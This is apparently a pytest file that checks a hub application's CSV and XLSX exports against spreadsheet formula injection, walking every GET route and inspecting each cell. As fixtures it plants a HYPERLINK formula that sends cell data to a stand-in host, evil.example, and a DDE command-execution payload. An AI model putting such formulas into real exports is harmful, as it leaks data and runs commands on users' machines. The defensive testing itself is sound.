"""Every spreadsheet the hub hands out (API and pages, CSV and XLSX) shows text a
spreadsheet would evaluate as text. The exports are found, not listed: every GET route of
the app (the API's from /openapi.json, the pages' from the url map) is asked as an
official, also with ``format=csv|xlsx``, and every answer that is a spreadsheet is read
back cell by cell; and no module but the one writer (hub/supervision/exports.py) writes
spreadsheets. A new export is covered by both without a line here."""
from __future__ import annotations

import ast
import csv
import io
import itertools
from pathlib import Path
from typing import Any

import openpyxl
from sqlalchemy import update
from werkzeug.routing import AnyConverter

from hub.directory.models import Department
from hub.supervision.exports import CSV_MIMETYPE, FORMULA_STARTS, XLSX_MIMETYPE
from tests.e2e.approvals.conftest import hall  # noqa: F401 - the fixture
from tests.e2e.web.pages import signed_in

ROOT = Path(__file__).resolve().parents[2]
DEPARTMENT = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
COMMENT = "+cmd|' /C calc'!A0"
SPREADSHEETS = {CSV_MIMETYPE.split(";")[0], XLSX_MIMETYPE}
# Required query parameters of the exports, filled as an official would.
KNOWN = {"year": "2026", "center": "binhe", "service_item": "open-restaurant",
         "date": "2026-12-07"}


def cells(mimetype: str, content: bytes) -> list[tuple[str, Any, Any]]:
    """(text, data type, quote prefix) of every cell of a CSV or XLSX answer."""
    if mimetype == XLSX_MIMETYPE:
        book = openpyxl.load_workbook(io.BytesIO(content))
        return [(cell.value, cell.data_type, cell.quotePrefix) for sheet in book.worksheets
                for row in sheet.iter_rows() for cell in row if cell.value is not None]
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [(value, "s", False) for row in rows for value in row]


def evaluated(found: list[tuple[str, Any, Any]]) -> list[Any]:
    """Cells a spreadsheet would evaluate: formulas, or text starting like one that is not
    marked as typed text."""
    return [(v, t, q) for v, t, q in found if t == "f" or (
        isinstance(v, str) and v.lstrip(" \u3000")[:1] in FORMULA_STARTS and not q)]


def api_exports(client: Any, who: Any) -> list[str]:
    spec = client.get("/openapi.json").get_json()
    urls = []
    for path, item in spec["paths"].items():
        op = item.get("get")
        if op is None or "{" in path:
            continue
        query = [f"{p['name']}={KNOWN[p['name']]}" for p in op.get("parameters", [])
                 if p["in"] == "query" and p.get("required")]
        for extra in ([], ["format=csv"], ["format=xlsx"]):
            urls.append(path + "?" + "&".join(query + extra))
    return urls


def page_exports(app: Any) -> list[str]:
    """Every GET page, its ``any(...)`` segments expanded; pages needing an id are left
    to the API's walk (no export takes one)."""
    urls = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint.startswith(("static", "api")) \
                or not rule.endpoint.startswith("web."):
            continue
        choices = {}
        for name, converter in rule._converters.items():
            if not isinstance(converter, AnyConverter):
                break
            choices[name] = sorted(converter.items)
        else:
            for values in itertools.product(*choices.values()):
                url = rule.build(dict(zip(choices, values, strict=True)), append_unknown=False)[1]
                urls += [url, url + "?format=csv", url + "?format=xlsx"]
    return urls


def test_every_export_shows_formulas_as_text(app, client, hall, session):  # noqa: F811
    # The market department, renamed by whoever could (a center's sync, an administrator).
    session.execute(update(Department).where(Department.code == "market")
                    .values(name=DEPARTMENT))
    rejected = hall.submitted()
    hall.decided(hall.task(rejected, "market"), "reject", comment=COMMENT)
    supervisor = hall.supervisor
    signed_in(client, supervisor)

    found: dict[str, list[tuple[str, Any, Any]]] = {}
    for url in api_exports(client, supervisor) + page_exports(app):
        headers = supervisor.headers if url.startswith("/api/") else {}
        response = client.get(url, headers=headers)
        assert response.status_code < 500, url
        if response.status_code == 200 and response.mimetype in SPREADSHEETS:
            found[url] = cells(response.mimetype, response.data)

    # The API's four (centers, departments, ranking, report) and the pages' three, each
    # as CSV and XLSX: the walk must find them all, or it proves nothing.
    assert len(found) >= 14, sorted(found)
    for url, content in found.items():
        assert evaluated(content) == [], url
    texts = {url: {str(v).lstrip("'") for v, _, _ in content} for url, content in found.items()}
    departments = [u for u in found if "departments" in u]
    assert departments and all(DEPARTMENT in texts[u] for u in departments)
    # The report's CSV is its first sheet; its workbook has the rejections by reason too.
    reports = [u for u in found if "report" in u and "xlsx" in u]
    assert reports and all(COMMENT in texts[u] for u in reports)


def test_no_module_but_the_one_writer_writes_spreadsheets():
    # csv.writer / DictWriter and openpyxl's Workbook anywhere else in the product would be
    # an export that bypasses the neutralisation. The sample center systems write the
    # centers' own files (adapters/sample), which are no export of the hub.
    writers = {"writer", "DictWriter", "Workbook"}
    found = []
    for path in sorted([*ROOT.glob("hub/**/*.py"), *ROOT.glob("adapters/**/*.py"),
                        *ROOT.glob("monitoring/**/*.py")]):
        relative = path.relative_to(ROOT).as_posix()
        if relative in ("hub/supervision/exports.py",) or relative.startswith("adapters/sample/"):
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            name = node.attr if isinstance(node, ast.Attribute) else \
                node.id if isinstance(node, ast.Name) else None
            if name in writers:
                found.append(f"{relative}:{node.lineno} {name}")
    assert found == []


def test_the_check_sees_spreadsheets_written_the_naive_way():
    book = openpyxl.Workbook()
    book.active.append([DEPARTMENT, COMMENT, "市场"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert len(evaluated(cells(XLSX_MIMETYPE, buffer.getvalue()))) == 2
    text = io.StringIO()
    csv.writer(text).writerow([DEPARTMENT, COMMENT, "市场"])
    assert len(evaluated(cells(CSV_MIMETYPE.split(";")[0], text.getvalue().encode()))) == 2
